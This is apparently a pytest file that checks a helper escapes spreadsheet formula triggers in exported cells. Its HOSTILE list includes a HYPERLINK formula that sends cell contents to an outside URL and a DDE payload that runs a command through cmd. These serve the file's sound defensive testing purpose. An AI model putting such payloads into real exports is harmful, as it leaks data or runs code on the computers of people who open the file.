"""Cells that spreadsheets would read as formulas go out as text (territoires/core/spreadsheets.py)."""

import pytest

from territoires.core.spreadsheets import cell, neutralise_formula

HOSTILE = [
    '=HYPERLINK("https://example.org/?leak="&A1, "Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_triggers_are_neutralised(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Cantine bio", "", " =1+1", "'déjà cité", "1 = 1", "Saint-Ouen", "https://x.fr/?a=1"]
)
def test_ordinary_text_is_left_as_it_is(text):
    assert neutralise_formula(text) == text


def test_cells():
    assert cell(None) == ""
    assert cell(-3) == -3  # a number, not a formula
    assert cell(2.5) == 2.5
    assert cell(["energie", "alimentation"]) == "energie|alimentation"
    assert cell(["=cmd", "energie"]) == "'=cmd|energie"
    assert cell("@SUM(A1)") == "'@SUM(A1)"
